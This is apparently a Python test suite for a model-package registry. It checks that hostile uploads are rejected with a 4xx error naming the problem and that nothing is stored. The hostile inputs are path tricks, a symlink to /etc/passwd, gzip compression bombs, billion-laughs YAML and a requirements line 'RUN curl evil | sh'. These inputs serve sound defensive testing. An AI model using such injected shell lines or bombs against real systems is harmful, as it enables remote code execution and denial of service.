"""Hostile packages (issue 10, item 5), each sent to a real hub over HTTP, on SQLite and PostgreSQL:
paths out of the package, links and devices, archives over a cap, compression bombs, manifests, cards
and examples of megabytes, YAML bombs, fields that try to become Dockerfile or shell lines. Every one
is answered 4xx with the problem named, and nothing is kept: no version, no blob, no folder.

The corpus is built by the tests (tests/hostile.py). The compression bomb also goes to `aid serve` in
its own process, and the hostile folders to `aid publish`, which refuses them before sending a byte."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import socket
import tarfile
import time
import tracemalloc
from pathlib import Path

import httpx
import psutil
import pytest

from registry.archive import RATIO_FLOOR, READ, RatioExceeded, store_archive
from registry.blobs import BlobStore
from registry.files import Limits, lay_out
from registry.manifest import PackageInvalid
from registry.models import ModelRow, VersionRow
from registry.package import validate_package
from tests.hostile import (
    ARCHIVES,
    FILE_LISTS,
    INJECTIONS,
    MANIFESTS,
    NAME,
    Case,
    MiB,
    ZeroBomb,
    fields,
    laughs,
    member,
    valid_package,
    with_member,
)
from tests.hubserver import HubProcess

ERROR_KEYS = ["ok", "error", "errors", "status"]
SHA = "0" * 64
CORPUS = [*ARCHIVES, *MANIFESTS, *INJECTIONS]


@pytest.fixture(scope="module")
def hub(open_hub, module_database_url, tmp_path_factory):
    """One hub for the whole corpus: whatever a refusal left behind, the next test would see."""
    hub = open_hub(tmp_path_factory.mktemp("hostile") / "home", module_database_url)
    yield hub
    hub.close()


@pytest.fixture
def api(client, hub):
    """The test client, with the hub's admin token where the hub asks for one."""
    token = hub.config.home / "admin-token"
    if token.is_file():
        client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {token.read_text().strip()}"
    return client


def leftovers(hub) -> list[str]:
    """Every file under the blob store (blobs, parts, temp files) and every package folder."""
    blobs = [p for p in hub.config.blobs_dir.rglob("*") if p.is_file()]
    folders = list(hub.config.packages_dir.iterdir()) if hub.config.packages_dir.is_dir() else []
    return [str(p) for p in blobs + folders]


def said(reply) -> str:
    """The error and the problems listed, one a line."""
    body = reply.get_json()
    return "\n".join([body["error"], *body["errors"]])


def aftermath(reply, hub) -> dict:
    """The answer's status and shape, and what the hub holds after it."""
    body = reply.get_json()
    return {
        "status": reply.status_code, "keys": list(body), "ok": body["ok"], "status in body": body["status"],
        "versions": VersionRow.select().count(), "models": ModelRow.select().count(), "left": leftovers(hub),
    }  # fmt: skip


def refused(status: int) -> dict:
    """The aftermath of a refusal: `status`, the fixed error shape, and nothing stored."""
    keys = {"status": status, "keys": ERROR_KEYS, "ok": False, "status in body": status}
    return {**keys, "versions": 0, "models": 0, "left": []}


def post_archive(api, body: bytes):
    return api.post("/api/v1/models", data=body, content_type="application/gzip")


# --- the corpus, as archives ---------------------------------------------------------------------


def test_the_package_each_case_spoils_is_valid_as_it_is(tmp_path):
    """The control: unspoiled, the archive unpacks into a valid package, so a refusal is about the one
    thing each case changes."""
    blobs = BlobStore(tmp_path / "blobs")
    entries = store_archive(io.BytesIO(fields()(tmp_path)), blobs, Limits(2**30, 2**30, 10))
    assert [e.path for e in entries] == [
        "README.md",
        "aid.yaml",
        "examples.json",
        "model.onnx",
        "reference.csv",
    ]
    assert validate_package(lay_out(entries, blobs.path, tmp_path / "laid-out")).manifest.name == NAME


@pytest.mark.parametrize("case", CORPUS, ids=[c.id for c in CORPUS])
def test_a_hostile_archive_is_refused_naming_the_problem_and_nothing_is_kept(hub, api, tmp_path, case: Case):
    reply = post_archive(api, case.build(tmp_path))
    assert case.says in said(reply), reply.get_json()
    assert aftermath(reply, hub) == refused(case.status)


@pytest.mark.parametrize("path, says", FILE_LISTS, ids=[f"path{i}" for i in range(len(FILE_LISTS))])
def test_a_hostile_path_in_a_file_list_is_refused_before_any_blob_is_looked_at(hub, api, path, says):
    files = [{"path": path, "sha256": SHA, "size": 1}, {"path": "aid.yaml", "sha256": SHA, "size": 1}]
    reply = api.post("/api/v1/models", data=json.dumps({"files": files}), content_type="application/json")
    assert says in said(reply), reply.get_json()
    assert aftermath(reply, hub) == refused(400)
    assert reply.get_json()["errors"][0].startswith("files[0]: ")


def test_a_nul_in_a_file_list_path_is_refused_before_the_list_is_read(hub, api):
    files = [{"path": "a\x00b", "sha256": SHA, "size": 1}, {"path": "aid.yaml", "sha256": SHA, "size": 1}]
    reply = api.post("/api/v1/models", data=json.dumps({"files": files}), content_type="application/json")
    assert "NUL character" in said(reply), reply.get_json()
    assert aftermath(reply, hub) == refused(400)


def test_a_file_list_naming_a_file_and_a_folder_alike_is_refused(hub, api):
    files = [
        {"path": p, "sha256": SHA, "size": 1} for p in ("model.onnx", "model.onnx/weights", "model.onnx-b")
    ]
    reply = api.post("/api/v1/models", json={"files": files})
    assert "'model.onnx' is a file and also the folder of 'model.onnx/weights'" in said(reply)
    assert aftermath(reply, hub) == refused(400)


LIMITS = Limits(max_file=200_000, max_version=400_000, max_files=10)
RAISE = "Shrink the package, or raise"
OVER_A_CAP = [
    Case("more-files", with_member(*(member(f"f{i}") for i in range(6))), 413,
         f"The archive has more files; the hub's limit is 10 files. {RAISE} AIDHUB_MAX_FILES"),
    Case("more-folders", with_member(*(member(f"d{i}", kind=tarfile.DIRTYPE) for i in range(11))), 413,
         f"The archive has more folders; the hub's limit is 10 files. {RAISE} AIDHUB_MAX_FILES"),
    Case("a-file-too-large", with_member(member("w.bin", os.urandom(200_001))), 413,
         f"w.bin is 200,001 bytes; the hub's limit is 200,000 bytes. {RAISE} AIDHUB_MAX_FILE_SIZE"),
    Case("a-version-too-large", with_member(*(member(f"w{i}", bytes([i]) * 150_000) for i in range(3))), 413,
         f"bytes; the hub's limit is 400,000 bytes. {RAISE} AIDHUB_MAX_VERSION_SIZE"),
]  # fmt: skip


@pytest.mark.parametrize("case", OVER_A_CAP, ids=[c.id for c in OVER_A_CAP])
def test_an_archive_over_a_cap_is_refused_naming_the_setting(hub, api, tmp_path, monkeypatch, case: Case):
    monkeypatch.setattr(hub.catalog.packages, "limits", LIMITS)
    reply = post_archive(api, case.build(tmp_path))
    assert case.says in said(reply), reply.get_json()
    assert aftermath(reply, hub) == refused(case.status)


# --- compression bombs -----------------------------------------------------------------------------


def test_a_gzip_of_10_gib_of_zeros_is_refused_after_unpacking_a_few_mib_fast_with_memory_flat(hub, api):
    bomb = ZeroBomb(10 * 1024 * MiB)
    tracemalloc.start()
    started = time.perf_counter()
    try:
        reply = api.post(
            "/api/v1/models", input_stream=bomb, content_length=bomb.length, content_type="application/gzip"
        )
        seconds, peak = time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "more than 200 times its size (a compression bomb?)" in said(reply)
    assert aftermath(reply, hub) == refused(413)
    assert "raise AIDHUB_MAX_COMPRESSION_RATIO on the hub" in reply.get_json()["error"]
    assert bomb.sent <= 2 * READ < MiB, bomb.sent  # of the 10 MB it is
    assert seconds < 5 and peak < 32 * MiB, (seconds, peak)


def test_the_ratio_is_counted_from_the_bytes_read_not_the_sizes_claimed(tmp_path):
    """Under RATIO_FLOOR nothing is refused (a small package compresses well); the cap of Limits is the
    one applied, and 0 turns it off."""
    blobs = BlobStore(tmp_path / "blobs")
    small = ZeroBomb(RATIO_FLOOR // 2)
    assert store_archive(small, blobs, Limits(2**40, 2**40, 10))[0].size == RATIO_FLOOR // 2
    with pytest.raises(RatioExceeded, match="more than 50 times its size"):
        store_archive(ZeroBomb(64 * MiB), blobs, Limits(2**40, 2**40, 10, max_ratio=50))
    assert store_archive(ZeroBomb(64 * MiB), blobs, Limits(2**40, 2**40, 10, max_ratio=0))[0].size == 64 * MiB


@pytest.mark.parametrize("compress", ["gzip", "bz2", "lzma", "none", "gzip-streams", "bz2-streams"])
def test_the_archive_is_unpacked_as_tarfile_did_whatever_its_compression(tmp_path, compress):
    """The hub unpacks archives itself (to count the ratio): gzip, bzip2, xz or none, and streams
    written one after another (pigz, pbzip2, bgzip) with bytes after the last ignored, as gzip does."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for i in range(3):
            info = tarfile.TarInfo(f"part{i}.bin")
            info.size = 300_000
            tar.addfile(info, io.BytesIO(bytes([i]) * info.size))
    data, kind = raw.getvalue(), compress.removesuffix("-streams")
    third = len(data) // 3 + 1
    pieces = [data[i : i + third] for i in range(0, len(data), third)] if kind != compress else [data]
    codec = {"gzip": gzip.compress, "bz2": bz2.compress, "lzma": lzma.compress, "none": bytes}[kind]
    body = b"".join(codec(piece) for piece in pieces) + (b"\0 trailing" if kind == "gzip" else b"")
    entries = store_archive(io.BytesIO(body), BlobStore(tmp_path), Limits(2**30, 2**30, 10))
    assert [(e.path, e.size) for e in entries] == [(f"part{i}.bin", 300_000) for i in range(3)]


# --- what is data, not a manifest ------------------------------------------------------------------


def test_reference_data_of_gigabytes_is_fine_and_only_its_header_line_is_read(tmp_path):
    root = valid_package(tmp_path / "pkg")
    with open(root / "reference.csv", "r+b") as f:
        f.truncate(20 * 1024**3)  # sparse: 20 GiB of zeros after the header and two rows
    started = time.perf_counter()
    assert validate_package(root).manifest.reference_data == "reference.csv"
    assert time.perf_counter() - started < 2
    (root / "reference.csv").write_bytes(b"")
    with open(root / "reference.csv", "r+b") as f:
        f.truncate(20 * 1024**3)  # a header line with no end
    with pytest.raises(PackageInvalid, match="the header line is longer than 65,536 bytes"):
        validate_package(root)


# --- aid publish -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """`aid serve` in its own process (gunicorn, gevent), with its own SQLite database."""
    hub = HubProcess(tmp_path_factory.mktemp("hostile-serve") / "home").start()
    yield hub
    hub.stop()


def spoil(root: Path, how: str) -> None:
    if how == "symlink":
        (root / "model.onnx").unlink()
        (root / "model.onnx").symlink_to("/etc/passwd")
    elif how == "manifest-of-a-mebibyte":
        (root / "aid.yaml").write_text((root / "aid.yaml").read_text() + f"license: {'x' * MiB}\n")
    elif how == "billion-laughs":
        (root / "aid.yaml").write_bytes(laughs())
    elif how == "requirement-injection":
        (root / "requirements.txt").write_text("numpy\nRUN curl evil | sh\n")
    elif how == "card-of-two-mebibytes":
        (root / "README.md").write_text("# card\n" + "x" * 2 * MiB)


PUBLISH = {
    "symlink": "model.onnx: is a symbolic link; copy the file in instead",
    "manifest-of-a-mebibyte": "aid.yaml: is larger than 65,536 bytes",
    "billion-laughs": "aid.yaml: holds more than 10,000 values",
    "requirement-injection": "requirements.txt[1]: 'RUN curl evil | sh' is not a plain requirement",
    "card-of-two-mebibytes": "README.md: larger than 262144 bytes",
}


@pytest.mark.parametrize("how", PUBLISH)
def test_aid_publish_refuses_a_hostile_folder_before_sending_anything(server, tmp_path, how):
    root = valid_package(tmp_path / "pkg")
    spoil(root, how)
    done = server.aid("publish", str(root), timeout=120)
    assert done.returncode == 2, done.stdout + done.stderr
    assert PUBLISH[how] in done.stderr
    assert httpx.get(f"{server.url}/api/v1/models", headers=server.headers).json()["models"] == []
    assert server_blobs(server) == []


def server_blobs(server) -> list[Path]:
    return [p for p in (server.home / "blobs").rglob("*") if p.is_file()]


def test_a_real_hub_answers_a_30_gib_gzip_bomb_before_most_of_it_is_sent(server):
    """Over a socket to `aid serve`: the 413 arrives while the client is still sending the 32 MB the
    bomb takes (what was sent by then is mostly what the sockets' buffers took), the hub answers within
    seconds, and its processes do not grow."""
    bomb = ZeroBomb(30 * 1024 * MiB)
    processes = [psutil.Process(server.proc.pid), *psutil.Process(server.proc.pid).children(recursive=True)]
    before = sum(p.memory_info().rss for p in processes)
    head = (
        f"POST /api/v1/models HTTP/1.1\r\nHost: hub\r\nContent-Type: application/gzip\r\n"
        f"Content-Length: {bomb.length}\r\nAuthorization: Bearer {server.token}\r\n\r\n"
    )
    started = time.perf_counter()
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 * 1024)
        sock.sendall(head.encode())
        answer = _send_until_answered(sock, bomb)
    seconds = time.perf_counter() - started
    after = sum(p.memory_info().rss for p in processes)
    assert answer.startswith(b"HTTP/1.1 413"), answer[:500]
    assert b"AIDHUB_MAX_COMPRESSION_RATIO" in answer.split(b"\r\n\r\n", 1)[1]
    assert bomb.sent < bomb.length / 4 and seconds < 10, (bomb.sent, bomb.length, seconds)  # 256 KiB here
    assert after - before < 64 * MiB, (before, after)
    assert httpx.get(f"{server.url}/api/v1/models", headers=server.headers).json()["models"] == []
    assert server_blobs(server) == []


def _send_until_answered(sock: socket.socket, bomb: ZeroBomb) -> bytes:
    sock.setblocking(False)
    answer = b""
    for chunk in bomb.chunks(16 * 1024):
        try:
            answer += sock.recv(65536)
        except BlockingIOError:
            pass
        if b"\r\n\r\n" in answer:
            break
        _send_all(sock, chunk)
    sock.setblocking(True)
    sock.settimeout(30)
    while b"AIDHUB" not in answer and (more := sock.recv(65536)):
        answer += more
    return answer


def _send_all(sock: socket.socket, data: bytes) -> None:
    view = memoryview(data)
    while view:
        try:
            view = view[sock.send(view) :]
        except BlockingIOError:
            time.sleep(0.001)
